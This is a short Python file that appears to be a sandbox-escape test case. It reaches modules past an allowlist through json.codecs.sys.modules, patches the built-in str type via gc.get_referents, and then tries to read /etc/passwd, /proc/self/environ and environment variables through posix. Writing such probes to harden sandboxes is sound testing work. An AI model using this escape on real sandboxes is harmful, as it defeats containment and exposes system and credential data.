# trick: change things that cannot be changed, through gc.get_referents of mapping proxies, then use a built-in type's new method to reach out
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def look(posix):
    """What this module gives away of the machine outside."""
    found = []
    for path in ("/etc/passwd", "/proc/self/environ", "/", "."):
        for name in ("open", "listdir", "stat"):
            try:
                getattr(posix, name)(*((path, 0) if name == "open" else (path,)))
            except (AttributeError, OSError):
                continue
            found.append(f"{name} {path}")
    if getattr(posix, "environ", None):
        found.append("environ")
    return found


def run(ctx):
    gc, found = reach("gc"), []
    names = gc.get_referents(str.__dict__)[0]
    names["runlace_reach"] = lambda self: reach(self)
    try:
        found += look("posix".runlace_reach())
    except AttributeError:
        pass
    finally:
        del names["runlace_reach"]
    return found
